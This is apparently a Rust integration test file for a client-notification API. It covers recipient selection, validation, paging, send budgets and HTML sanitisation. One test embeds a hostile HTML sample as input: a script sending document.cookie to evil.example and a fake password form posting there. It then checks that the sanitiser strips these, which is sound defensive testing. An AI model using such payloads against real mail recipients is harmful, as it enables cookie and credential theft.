//! Notifications go to the contacts who opted into the topic and have an email.

use serde_json::json;
use testkit::mail::messages_to;
use testkit::proxy::Fault;
use testkit::TestApi;

use crate::support::{
    addresses, contact_path, given_client, given_contact, given_recipients, notify_invoice, unique_email,
};

/// Acme's contacts of every kind: Ada (invoices), Bob (tickets only), one opted in to invoices
/// without an email, Cy (invoices and tickets), and one opted in who has been deleted.
async fn given_contacts_of_every_kind(
    api: &TestApi,
    acme: &str,
    (ada, bob, cy, gone): (&str, &str, &str, &str),
) {
    let admin = TestApi::admin("t1");
    let bodies = [
        json!({ "first_name": "Ada", "last_name": "L", "email": ada, "notifications": ["invoice"] }),
        json!({ "last_name": "Bob", "email": bob, "notifications": ["ticket"] }),
        json!({ "last_name": "NoMail", "phone": "+12025550143", "notifications": ["invoice"] }),
        json!({ "last_name": "Cy", "email": cy, "notifications": ["invoice", "ticket"] }),
    ];
    for body in bodies {
        given_contact(api, &admin, acme, body).await;
    }
    let deleted = given_contact(
        api,
        &admin,
        acme,
        json!({ "last_name": "Gone", "email": gone, "notifications": ["invoice"] }),
    )
    .await;
    api.delete(&admin, &contact_path(acme, &deleted)).await;
}

#[tokio::test]
async fn a_notification_reaches_exactly_the_opted_in_contacts_with_an_email() {
    let api = TestApi::new().await;
    let admin = TestApi::admin("t1");
    let acme = given_client(&api, &admin, "Acme").await;
    let (ada, bob, cy, gone) =
        (unique_email("ada"), unique_email("bob"), unique_email("cy"), unique_email("gone"));
    given_contacts_of_every_kind(&api, &acme, (&ada, &bob, &cy, &gone)).await;

    let res = api
        .post(&admin, &format!("/clients/{acme}/notifications"), json!({ "topic": "invoice", "subject": "Invoice INV-7", "text": "Your invoice <INV-7> is ready." }))
        .await;

    assert_eq!(res.status, 202, "{}", res.body);
    let body = res.json();
    let mut to: Vec<&str> =
        body["sent"].as_array().unwrap().iter().map(|d| d["email"].as_str().unwrap()).collect();
    to.sort();
    let mut expected = vec![ada.as_str(), cy.as_str()];
    expected.sort();
    assert_eq!(to, expected);
    assert_eq!(body["failed"], json!([]));
    assert_eq!(body["not_sent"], json!([]));
    for (address, count) in [(&ada, 1), (&cy, 1), (&bob, 0), (&gone, 0)] {
        assert_eq!(messages_to(address).await.len(), count, "{address}");
    }
    let mail = &messages_to(&ada).await[0];
    assert_eq!(mail["subject"], "Invoice INV-7");
    assert!(mail["body"]["text"].as_str().unwrap().contains("Your invoice <INV-7> is ready."));
    assert!(
        mail["body"]["html"].as_str().unwrap().contains("Your invoice &lt;INV-7&gt; is ready."),
        "text is escaped in HTML"
    );
}

#[tokio::test]
async fn a_notification_needs_a_known_topic_a_subject_and_a_text() {
    let api = TestApi::new().await;
    let admin = TestApi::admin("t1");
    let acme = given_client(&api, &admin, "Acme").await;

    let res = api
        .post(
            &admin,
            &format!("/clients/{acme}/notifications"),
            json!({ "topic": "newsletter", "subject": "x\ny" }),
        )
        .await;

    assert_eq!(res.status, 422);
    let mut fields: Vec<&str> = Vec::new();
    let body = res.json();
    for e in body["errors"].as_array().unwrap() {
        fields.push(e["field"].as_str().unwrap());
    }
    fields.sort();
    assert_eq!(fields, vec!["subject", "text", "topic"]);
}

#[tokio::test]
async fn a_client_with_many_recipients_gets_everyone_notified() {
    let api = TestApi::new().await;
    let admin = TestApi::admin("t1");
    let acme = given_client(&api, &admin, "Acme").await;
    let tag = ulid::Ulid::new().to_string().to_lowercase();
    for i in 0..150 {
        given_contact(&api, &admin, &acme, json!({ "last_name": format!("C{i}"), "email": format!("bulk{i}.{tag}@example.com"), "notifications": ["project"] })).await;
    }

    let res = api
        .post(
            &admin,
            &format!("/clients/{acme}/notifications"),
            json!({ "topic": "project", "subject": "Kick-off", "text": "Monday." }),
        )
        .await;

    assert_eq!(res.status, 202);
    let body = res.json();
    assert_eq!(body["sent"].as_array().unwrap().len(), 150, "recipients span two pages of 100");
    assert_eq!(body["not_sent_more"], false);
}

#[tokio::test]
async fn recipients_left_when_the_send_budget_runs_out_are_reported_not_sent_and_get_no_email() {
    // Given a client with two opted-in contacts and a notification budget already spent
    let mut api = TestApi::new().await;
    api.app.notify_budget = std::time::Duration::ZERO;
    let admin = TestApi::admin("t1");
    let acme = given_client(&api, &admin, "Acme").await;
    let emails = given_recipients(&api, &acme, &["Ada", "Cy"]).await;

    // When the notification is sent
    let res = notify_invoice(&api, &acme).await;

    // Then it answers in time, naming everyone it did not reach, and sends nothing late
    assert_eq!(res.status, 202, "{}", res.body);
    let body = res.json();
    assert_eq!(body["sent"], json!([]));
    assert_eq!(body["failed"], json!([]));
    let mut expected = emails.clone();
    expected.sort();
    assert_eq!(addresses(&body["not_sent"]), expected);
    for address in &emails {
        assert!(messages_to(address).await.is_empty(), "{address}");
    }
}

#[tokio::test]
async fn notification_html_arrives_with_its_formatting_and_links_but_no_active_content_or_tracking() {
    // Given a recipient, and markup that tries scripts, a form, a tracking pixel, a handler and
    // a javascript: link next to ordinary formatting and an https link
    let api = TestApi::new().await;
    let acme = given_client(&api, &TestApi::admin("t1"), "Acme").await;
    let emails = given_recipients(&api, &acme, &["Ada"]).await;
    let html = "<h2>Invoice INV-9</h2><p>Dear <strong>Ada</strong>, see <a href=\"https://acme.example/inv/9\">your invoice</a>.</p>\
        <script>document.location='https://evil.example/?c='+document.cookie</script>\
        <form action=\"https://evil.example/collect\"><input name=\"password\"><button>Log in</button></form>\
        <img src=\"http://tracker.example/pixel.gif?r=ada\">\
        <p onclick=\"steal()\">Thanks</p><a href=\"javascript:steal()\">Pay now</a>";
    let body = json!({ "topic": "invoice", "subject": "Invoice INV-9", "text": "Ready.", "html": html });

    // When it is sent
    let res = api.post(&TestApi::admin("t1"), &format!("/clients/{acme}/notifications"), body).await;

    // Then what arrives keeps the formatting and the https link, and none of the rest
    assert_eq!(res.status, 202, "{}", res.body);
    let mail = messages_to(&emails[0]).await;
    let delivered = mail[0]["body"]["html"].as_str().expect("an HTML part");
    for kept in [
        "<h2>Invoice INV-9</h2>",
        "<strong>Ada</strong>",
        "<a href=\"https://acme.example/inv/9\" rel=\"noopener noreferrer\">your invoice</a>",
        "<p>Thanks</p>",
        "Pay now",
    ] {
        assert!(delivered.contains(kept), "{kept} arrived: {delivered}");
    }
    for dropped in [
        "<script",
        "document.cookie",
        "<form",
        "<input",
        "<button",
        "<img",
        "tracker.example",
        "onclick",
        "javascript:",
    ] {
        assert!(!delivered.contains(dropped), "{dropped} did not arrive: {delivered}");
    }
}

#[tokio::test]
async fn remote_images_arrive_only_where_they_are_allowed() {
    // Given a platform configured to allow remote images (EMAIL_ALLOW_REMOTE_IMAGES=true)
    let mut api = TestApi::new().await;
    api.app.email.allow_remote_images = true;
    let acme = given_client(&api, &TestApi::admin("t1"), "Acme").await;
    let emails = given_recipients(&api, &acme, &["Ada"]).await;
    let html = "<p>Our logo</p><img src=\"https://acme.example/logo.png\" alt=\"Acme\" onerror=\"steal()\">";
    let body = json!({ "topic": "invoice", "subject": "Logo", "text": "Logo.", "html": html });

    // When a notification with an image is sent
    let res = api.post(&TestApi::admin("t1"), &format!("/clients/{acme}/notifications"), body).await;

    // Then the image arrives, without its handler
    assert_eq!(res.status, 202, "{}", res.body);
    let mail = messages_to(&emails[0]).await;
    let delivered = mail[0]["body"]["html"].as_str().expect("an HTML part");
    assert!(delivered.contains("<img src=\"https://acme.example/logo.png\" alt=\"Acme\">"), "{delivered}");
    assert!(!delivered.contains("onerror"), "{delivered}");
}

#[tokio::test]
async fn a_notification_whose_budget_runs_out_reads_no_further_and_says_more_were_not_sent() {
    // Given a client with 150 opted-in contacts (two pages of recipients) and a budget already spent
    let (mut api, proxy) = TestApi::behind_proxy().await;
    api.app.notify_budget = std::time::Duration::ZERO;
    let acme = given_client(&api, &TestApi::admin("t1"), "Acme").await;
    given_imported_recipients(&api, &acme, 150).await;
    proxy.take_calls();

    // When the notification is sent
    let res = notify_invoice(&api, &acme).await;

    // Then only the first page was read, nobody was emailed, its recipients are listed as not
    // sent and the report says more were not reached
    assert_eq!(res.status, 202, "{}", res.body);
    let body = res.json();
    assert_eq!(body["sent"], json!([]));
    assert_eq!(body["not_sent"].as_array().unwrap().len(), 100);
    assert_eq!(body["not_sent_more"], true);
    let queries = proxy.take_calls().iter().filter(|c| c.operation == "Query").count();
    assert_eq!(queries, 1, "one page of recipients read");
}

/// `count` contacts of `client` opted into `invoice`, imported in one file (quicker than adds).
async fn given_imported_recipients(api: &TestApi, client: &str, count: usize) {
    let tag = ulid::Ulid::new().to_string().to_lowercase();
    let rows: String = (0..count).map(|i| format!("C{i},many{i}.{tag}@example.com,invoice\n")).collect();
    let path = format!("/clients/{client}/contacts/import");
    let csv = format!("last_name,email,notifications\n{rows}");
    let res =
        api.send(&TestApi::admin("t1"), "POST", &path, &[("content-type", "text/csv")], Some(csv)).await;
    assert_eq!(res.json()["created"], count, "{}", res.body);
}

#[tokio::test]
async fn when_reading_later_recipients_fails_the_report_names_who_was_reached_and_says_more_were_not() {
    // Given 150 opted-in contacts, and a store that fails every read after the first page
    let (api, proxy) = TestApi::behind_proxy().await;
    let acme = given_client(&api, &TestApi::admin("t1"), "Acme").await;
    given_imported_recipients(&api, &acme, 150).await;
    proxy.fail_after("Query", 1, Fault::InternalError);
    for _ in 0..9 {
        proxy.fail_next("Query", Fault::InternalError);
    }

    // When the notification is sent
    let res = notify_invoice(&api, &acme).await;

    // Then the first page's recipients got it, and the report says others were not reached
    assert_eq!(res.status, 202, "{}", res.body);
    let body = res.json();
    assert_eq!(body["sent"].as_array().unwrap().len(), 100, "{}", res.body);
    assert_eq!((body["not_sent"].clone(), body["not_sent_more"].clone()), (json!([]), json!(true)));
}
